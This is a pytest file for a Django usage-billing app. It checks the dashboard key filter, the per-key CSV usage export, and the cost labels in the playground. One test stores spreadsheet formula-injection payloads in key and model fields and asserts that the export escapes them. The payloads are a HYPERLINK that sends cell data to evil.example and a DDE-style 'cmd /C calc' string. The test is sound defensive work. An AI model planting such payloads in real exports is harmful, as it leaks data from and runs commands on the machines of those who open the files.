"""Usage by key: the filter offers the keys that send requests, the CSV names each request's key."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.utils import timezone

from accounts.models import ApiKey, KeyScope
from billing.drafts import UsageDraft
from billing.models import UsageRecord
from billing.settlement import usage_settle
from tests.factories import dashboard_client, key_client, key_make

pytestmark = pytest.mark.django_db


def test_usage_key_filter_lists_inference_keys_only(tenants: Any) -> None:
    key_make(tenants.organization, name="Backend")
    key_make(tenants.organization, scope=KeyScope.MANAGE, name="Ops automation")

    html = (
        dashboard_client(tenants.member, tenants.organization)
        .get("/dashboard/usage/")
        .content.decode()
    )

    assert ">Backend</option>" in html
    assert "Ops automation" not in html


def settled_with_key(tenants: Any, name: str, **fields: Any) -> ApiKey:
    """A settled request of a new inference key named ``name``."""
    key_make(tenants.organization, name=name)
    key = ApiKey.objects.get(name=name)
    usage_settle(
        UsageDraft(organization_id=tenants.organization.pk, key_id=key.pk, status="succeeded",
                   cost=Decimal("0"), model="demo/small", created_at=timezone.now(), **fields)
    )  # fmt: skip
    return key


def exported(tenants: Any) -> list[dict[str, str]]:
    manage = key_client(key_make(tenants.organization, scope=KeyScope.MANAGE))
    response = manage.get("/api/v1/usage/export.csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_usage_csv_names_the_key_of_each_request(tenants: Any) -> None:
    key = settled_with_key(tenants, "Backend", generation_id="gen-csv-key", provider="demo")

    rows = exported(tenants)
    assert [(r["id"], r["key_id"], r["key_name"]) for r in rows] == [
        ("gen-csv-key", str(key.pk), "Backend")
    ]


def test_usage_csv_cells_are_never_spreadsheet_formulas(tenants: Any) -> None:
    # A key name is an admin's text and a requested model is the request sender's: a cell
    # starting with = + - @ (or a tab, CR) would run as a formula where the export is opened.
    settled_with_key(
        tenants,
        '=HYPERLINK("https://evil.example/?"&A2,"open")',
        generation_id="gen-csv-formula",
        requested_model="@SUM(1+1)*cmd|' /C calc'!A0",
        provider="-2+3",
    )

    (row,) = exported(tenants)
    assert row["key_name"] == """'=HYPERLINK("https://evil.example/?"&A2,"open")"""
    assert row["requested_model"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["provider"] == "'-2+3"
    assert (row["model"], row["cost"]) == ("demo/small", "0.00000000")


def test_usage_csv_leaves_negative_numbers_numbers(tenants: Any) -> None:
    # A negative number starts with "-": it was quoted ("'-0.50000000"), text to a spreadsheet.
    settled_with_key(tenants, "Refunds", generation_id="gen-csv-negative", provider="-12",
                     requested_model="-1.5e3")  # fmt: skip
    UsageRecord.objects.filter(generation_id="gen-csv-negative").update(cost=Decimal("-0.5"))

    (row,) = exported(tenants)
    assert (row["cost"], row["provider"]) == ("-0.50000000", "-12")
    assert row["requested_model"] == "'-1.5e3"  # not a plain number: still quoted


def test_playground_says_which_prices_each_cost_uses(tenants: Any) -> None:
    html = (
        dashboard_client(tenants.member, tenants.organization)
        .get("/dashboard/playground/")
        .content.decode()
    )

    assert "Expected cost (estimate)" in html and "cost charged" in html
    assert "estimated before the call, at catalog prices" in html
    assert "typical 256-token reply" in html
